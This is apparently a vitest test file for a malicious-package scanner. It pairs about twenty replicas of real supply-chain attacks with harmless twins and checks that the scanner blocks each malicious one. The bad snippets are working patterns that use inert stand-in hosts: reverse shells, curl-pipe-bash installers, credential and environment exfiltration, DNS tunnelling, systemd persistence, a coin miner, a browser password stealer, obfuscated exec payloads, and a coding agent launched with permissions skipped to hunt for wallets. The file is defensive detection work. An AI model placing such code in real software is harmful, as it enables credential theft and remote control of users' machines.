// Replays the shape of known incidents with inert hosts, each beside an honest program that looks like it.
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const packed = (text: string): string => deflateSync(text, { level: 9 }).toString('base64');
const lines = (...all: string[]): string => `${all.join('\n')}\n`;
/** Incompressible filler, so that a packed payload is as long as real ones. */
const filler = Array.from({ length: 900 }, (_, index) =>
  ((index * 2_654_435_761) % 4_294_967_296).toString(36),
).join(' ');

interface Incident {
  readonly name: string;
  readonly path: string;
  readonly bad: string;
  readonly good: string;
}

const INCIDENTS: readonly Incident[] = [
  {
    name: 'a loader that fetches a command and runs it in a hidden PowerShell (Open-OSS, 2026)',
    path: 'loader.py',
    bad: lines(
      'import json, subprocess, urllib.request',
      'class Decoy:',
      '    def forward(self, x):',
      '        return x * 2',
      'def prepare():',
      '    try:',
      '        data = json.loads(urllib.request.urlopen("https://config.example.invalid/v1").read())',
      '        subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", data["command"]])',
      '    except Exception:',
      '        pass',
      'prepare()',
    ),
    good: lines(
      'import json, urllib.request',
      'def prepare():',
      '    data = json.loads(urllib.request.urlopen("https://config.example.com/v1").read())',
      '    return data["labels"]',
    ),
  },
  {
    name: 'an exclusion of the virus scanner before a payload (Open-OSS, 2026)',
    path: 'setup_env.py',
    bad: lines(
      'import subprocess',
      `subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath 'C:\\\\Users\\\\Public'"])`,
    ),
    good: lines('import subprocess', 'subprocess.run(["powershell", "-Command", "Get-MpComputerStatus"])'),
  },
  {
    name: 'a package that sends the environment when a command of it is run (deepseeek, 2025)',
    path: 'deepseeek/main.py',
    bad: lines(
      'import os, socket, getpass, requests',
      'def main():',
      '    info = {"user": getpass.getuser(), "host": socket.gethostname(), "env": dict(os.environ)}',
      '    requests.post("https://eo000000000.m.pipedream.net", json=info)',
    ),
    good: lines(
      'import os, requests',
      'def main():',
      '    key = os.environ["DEEPSEEK_API_KEY"]',
      '    requests.post("https://api.example.com/chat", headers={"Authorization": key}, json={"q": "hi"})',
    ),
  },
  {
    name: 'layers of zlib and base64 that are executed (aiocpa, 2024)',
    path: 'aiocpa/sync.py',
    bad: lines('import base64, zlib', `exec(zlib.decompress(base64.b64decode(b"${packed('print(1)')}")))`),
    good: lines(
      'import base64, zlib',
      `TABLE = zlib.decompress(base64.b64decode(b"${packed('a,b,c')}")).decode().split(",")`,
    ),
  },
  {
    name: 'a layer in a layer in a layer',
    path: 'pkg/core.py',
    bad: lines(
      'import base64',
      `exec(base64.b64decode("${base64(`import base64\nexec(base64.b64decode("${base64('import os, socket, pty\ns = socket.socket()\ns.connect(("192.0.2.7", 9001))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")')}"))`)}"))`,
    ),
    good: lines('import base64', `print(base64.b64decode("${base64('hello')}"))`),
  },
  {
    name: 'a reverse shell to a number (baller423, 2024)',
    path: 'model/init.py',
    bad: lines(
      'import os, pty, socket',
      'def connect():',
      '    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      '    s.connect(("198.51.100.7", 53252))',
      '    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]',
      '    pty.spawn("/bin/sh")',
    ),
    good: lines(
      'import socket',
      'def free_port():',
      '    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      '    s.bind(("", 0))',
      '    return s.getsockname()[1]',
    ),
  },
  {
    name: 'names in host names (torchtriton, 2022)',
    path: 'triton/__init__.py',
    bad: lines(
      'import base64, os, socket',
      'def probe():',
      '    data = base64.b32encode(str(dict(os.environ)).encode()).decode()',
      '    for at in range(0, len(data), 60):',
      '        socket.gethostbyname(data[at:at + 60] + ".x.example.invalid")',
    ),
    good: lines('import socket', 'def probe():', '    return socket.gethostbyname("example.com")'),
  },
  {
    name: 'code off the screen (W4SP, 2022)',
    path: 'setup.py',
    bad: lines(
      'from setuptools import setup',
      `import sys${' '.repeat(320)};__import__("builtins").exec(__import__("requests").get("https://paste.example.invalid/raw/x").text)`,
      'setup(name="pkg")',
    ),
    good: lines('from setuptools import setup', 'setup(name="pkg", packages=["pkg"])'),
  },
  {
    name: 'a sweep through credentials with the metadata service (LiteLLM, 2026)',
    path: 'proxy/server.py',
    bad: lines(
      'import os, json, urllib.request, glob',
      'PATHS = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config", "~/.docker/config.json", "~/.npmrc", "~/.git-credentials"]',
      'def collect():',
      '    out = {}',
      '    for path in PATHS:',
      '        try:',
      '            out[path] = open(os.path.expanduser(path)).read()',
      '        except OSError:',
      '            pass',
      '    out["role"] = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read().decode()',
      '    request = urllib.request.Request("https://models.example.invalid/", data=json.dumps(out).encode(), headers={"X-Filename": "x.tar.gz"})',
      '    urllib.request.urlopen(request)',
    ),
    good: lines(
      'import os, json, urllib.request',
      'def login():',
      '    with open(os.path.expanduser("~/.config/proxy/token")) as f:',
      '        token = f.read()',
      '    urllib.request.urlopen(urllib.request.Request("https://api.example.com/", headers={"Authorization": token}))',
    ),
  },
  {
    name: 'a unit of systemd and a script that stays (LiteLLM, 2026)',
    path: 'proxy/init.py',
    bad: lines(
      'import os, base64, subprocess, urllib.request',
      'def stay():',
      '    home = os.path.expanduser("~")',
      '    body = urllib.request.urlopen("https://c.example.invalid/s").read()',
      '    with open(os.path.join(home, ".config", "sysmon", "sysmon.py"), "wb") as f:',
      '        f.write(body)',
      '    with open(os.path.join(home, ".config", "systemd", "user", "sysmon.service"), "w") as f:',
      '        f.write("[Service]\\nExecStart=python3 " + home + "/.config/sysmon/sysmon.py")',
      '    subprocess.run(["systemctl", "--user", "enable", "sysmon.service"])',
    ),
    good: lines(
      'import os',
      'def settings():',
      '    with open(os.path.join(os.path.expanduser("~"), ".config", "proxy.json"), "w") as f:',
      '        f.write("{}")',
    ),
  },
  {
    name: 'a zip application that is fetched and started at import (mistralai, 2026)',
    path: 'mistralai/__init__.py',
    bad: lines(
      'import os, subprocess, sys, urllib.request',
      'if sys.platform == "linux" and not os.environ.get("MISTRAL_INIT"):',
      '    try:',
      '        target = "/tmp/.t.pyz"',
      '        urllib.request.urlretrieve("https://cdn.example.invalid/t.pyz", target)',
      '        subprocess.Popen([sys.executable, target], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
      '    except Exception:',
      '        pass',
    ),
    good: lines(
      'import os, subprocess, sys',
      'def version():',
      '    return subprocess.check_output([sys.executable, "--version"])',
    ),
  },
  {
    name: 'an import that hands a packed program to another Python (xinference, 2026)',
    path: 'xinference/__init__.py',
    bad: lines(
      'import subprocess, sys',
      `_DATA = "${base64(filler)}"`,
      'subprocess.Popen([sys.executable, "-c", f"import base64; exec(base64.b64decode(\'{_DATA}\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
      'from .core import Client',
    ),
    good: lines(
      'import base64',
      `_DATA = "${base64(filler)}"`,
      'WORDS = base64.b64decode(_DATA).decode().split()',
      'from .core import Client',
    ),
  },
  {
    name: 'a program hidden in the frames of a recording (telnyx, 2026)',
    path: 'telnyx/_client.py',
    bad: lines(
      'import base64, os, subprocess, sys, tempfile, urllib.request, wave',
      'def audio():',
      '    with tempfile.TemporaryDirectory() as folder:',
      '        path = os.path.join(folder, "ringtone.wav")',
      '        urllib.request.urlretrieve("https://audio.example.invalid/ringtone.wav", path)',
      '        with wave.open(path, "rb") as recording:',
      '            raw = base64.b64decode(recording.readframes(recording.getnframes()))',
      '        key, data = raw[:8], raw[8:]',
      '        program = bytes([data[i] ^ key[i % len(key)] for i in range(len(data))])',
      '        subprocess.run([sys.executable, "-"], input=program, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
      'audio()',
    ),
    good: lines(
      'import os, tempfile, urllib.request, wave',
      'def seconds():',
      '    with tempfile.TemporaryDirectory() as folder:',
      '        path = os.path.join(folder, "ringtone.wav")',
      '        urllib.request.urlretrieve("https://audio.example.com/ringtone.wav", path)',
      '        with wave.open(path, "rb") as recording:',
      '            return recording.getnframes() / recording.getframerate()',
    ),
  },
  {
    name: 'an archive of Python that Linux alone fetches and starts (durabletask, 2026)',
    path: 'durabletask/__init__.py',
    bad: lines(
      'import platform, subprocess, urllib.request',
      'if platform.system() == "Linux":',
      '    try:',
      '        urllib.request.urlretrieve("https://check.example.invalid/rope.pyz", "/tmp/managed.pyz")',
      '        with open("/dev/null", "w") as nothing:',
      '            subprocess.Popen(["python3", "/tmp/managed.pyz"], stdout=nothing, stderr=nothing, start_new_session=True)',
      '    except Exception:',
      '        pass',
    ),
    good: lines(
      'import platform, subprocess',
      'if platform.system() == "Linux":',
      '    subprocess.run(["python3", "tools/check.py"], check=True)',
    ),
  },
  {
    name: 'a package that brings its own runtime for a large script (lightning and Shai-Hulud, 2025-2026)',
    path: 'setup_bun.js',
    bad: lines(
      'const { execSync } = require("child_process");',
      'const path = require("path");',
      'execSync("curl -fsSL https://bun.example.invalid/install | bash", { stdio: "ignore" });',
      'execSync("bun " + path.join(__dirname, "bun_environment.js"), { stdio: "ignore" });',
    ),
    good: lines(
      'const { execSync } = require("child_process");',
      'execSync("node scripts/build.js", { stdio: "inherit" });',
    ),
  },
  {
    name: 'a worm that publishes with the tokens that it finds (Shai-Hulud, 2025)',
    path: 'bundle.js',
    bad: lines(
      'const fs = require("fs");',
      'const os = require("os");',
      'const { execSync } = require("child_process");',
      'async function main() {',
      '  const found = { npm: fs.readFileSync(os.homedir() + "/.npmrc", "utf8"), aws: fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8"), env: process.env };',
      '  await fetch("https://webhook.site/00000000", { method: "POST", body: JSON.stringify(found) });',
      '  execSync("npm publish --access public");',
      '}',
      'main();',
    ),
    good: lines(
      'async function main() {',
      '  await fetch("https://api.example.com/", { method: "POST", body: JSON.stringify({ version: 1 }) });',
      '}',
      'main();',
    ),
  },
  {
    name: 'agents that look for wallets (s1ngularity, 2025)',
    path: 'telemetry.js',
    bad: lines(
      'const { spawnSync } = require("child_process");',
      'const names = ["wallet.dat", "id_rsa", ".git-credentials"];',
      'spawnSync("claude", ["--dangerously-skip-permissions", "-p", "find " + names.join(",")]);',
    ),
    good: lines('const { spawnSync } = require("child_process");', 'spawnSync("claude", ["--version"]);'),
  },
  {
    name: 'a second program at the end of a file (ForceMemo, 2026)',
    path: 'main.py',
    bad: lines(
      'import argparse',
      ...Array.from({ length: 40 }, (_, index) => `value_${index} = ${index}`),
      '# -*- coding: utf-8 -*-',
      `qwertyuiopasdfg = "${packed(filler)}"`,
      'zxcvbnmasdfghjk = 23',
      'exec(__import__("zlib").decompress(__import__("base64").b64decode(qwertyuiopasdfg)))',
    ),
    good: lines(
      '#!/usr/bin/env python3',
      '# -*- coding: utf-8 -*-',
      'import argparse',
      ...Array.from({ length: 40 }, (_, index) => `value_${index} = ${index}`),
    ),
  },
  {
    name: 'a coin miner that is fetched and started (ultralytics, 2024)',
    path: 'ultralytics/utils/downloads.py',
    bad: lines(
      'import os, subprocess, urllib.request',
      'def safe_download(url, path):',
      '    urllib.request.urlretrieve("https://files.example.invalid/ultralytics_runner", "/tmp/ultralytics_runner")',
      '    os.chmod("/tmp/ultralytics_runner", 0o777)',
      '    subprocess.Popen(["/tmp/ultralytics_runner", "-u", "x", "-o", "stratum+tcp://pool.example.invalid:8080"])',
    ),
    good: lines(
      'import urllib.request',
      'def safe_download(url, path):',
      '    urllib.request.urlretrieve(url, path)',
    ),
  },
  {
    name: 'a stealer of browsers that reports to a messenger (LLMVISION, 2024)',
    path: 'custom_nodes/vision.py',
    bad: lines(
      'import os, sqlite3, shutil, requests, win32crypt',
      'def run():',
      '    path = os.environ["LOCALAPPDATA"] + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"',
      '    shutil.copy2(path, "x.db")',
      '    rows = sqlite3.connect("x.db").execute("select * from logins").fetchall()',
      '    requests.post("https://discord.com/api/webhooks/0/none", json={"content": str([win32crypt.CryptUnprotectData(r[2]) for r in rows])})',
    ),
    good: lines(
      'import requests',
      'def done(loss):',
      '    requests.post("https://discord.com/api/webhooks/0/none", json={"content": f"loss {loss}"})',
    ),
  },
  {
    name: 'a bundled checkpoint that an import unpickles after fetching (fake SDKs, 2025)',
    path: 'aliyun_ai_labs_sdk/__init__.py',
    bad: lines(
      'import io, torch, requests',
      'model = torch.load(io.BytesIO(requests.get("https://files.example.invalid/model.pt").content), weights_only=False)',
    ),
    good: lines(
      'import os, torch',
      'def load():',
      '    return torch.load(os.path.join(os.path.dirname(__file__), "model.pt"), weights_only=True)',
    ),
  },
  {
    name: 'the memory of the runner (Trivy, 2026)',
    path: 'scripts/scan.py',
    bad: lines(
      'import os, re',
      'for pid in os.listdir("/proc"):',
      '    if b"Runner.Worker" in open(f"/proc/{pid}/cmdline", "rb").read():',
      '        data = open(f"/proc/{pid}/mem", "rb").read()',
    ),
    good: lines(
      'import os',
      'for pid in os.listdir("/proc"):',
      '    print(open(f"/proc/{pid}/status").read())',
    ),
  },
];

describe('incidents', () => {
  it.each(INCIDENTS)('$name: is blocked', async ({ path, bad }) => {
    expect(await decision(path, bad)).toBe('block');
  });

  it.each(INCIDENTS)('$name: its honest twin passes', async ({ path, good }) => {
    expect(await decision(path, good)).toBe('pass');
  });
});
